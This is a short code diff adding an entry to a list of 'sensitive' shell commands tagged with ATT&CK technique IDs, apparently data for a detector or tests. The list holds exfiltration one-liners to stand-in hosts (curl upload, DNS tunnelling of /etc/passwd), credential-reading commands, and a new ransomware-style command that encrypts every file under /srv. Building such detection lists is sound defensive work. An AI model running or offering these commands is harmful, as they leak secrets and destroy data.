@@ -133,6 +133,7 @@ MORE_SENSITIVE = [
     ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
     ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
     ("for x in $(xxd -p secret.txt); do dig $x.exfil.example.com; done", "T1048.003"),
+    ("find /srv -type f -exec openssl enc -aes-256-cbc -pass pass:k -in {} -out {}.locked ;", "T1560.001"),
     ("openssl s_client -quiet -connect 203.0.113.1:443", "T1573"),
     ("aws sts get-caller-identity", "T1552.001"),
     ("kubectl get secrets -A", "T1552.007"),
